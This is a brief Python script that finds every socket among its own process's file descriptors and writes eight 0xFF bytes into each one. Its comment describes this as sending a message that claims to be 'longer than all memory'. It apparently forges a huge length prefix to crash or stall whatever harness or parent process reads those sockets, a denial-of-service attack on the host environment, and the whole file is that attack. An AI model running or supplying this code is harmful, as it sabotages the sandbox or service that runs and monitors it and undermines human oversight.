# A message says that it is longer than all memory.
import os

numbers = [number for number in range(3, 256) if os.path.exists(f"/proc/self/fd/{number}")]
sockets = [n for n in numbers if os.readlink(f"/proc/self/fd/{n}").startswith("socket")]

for number in sockets:
    os.write(number, b"\xff" * 8)
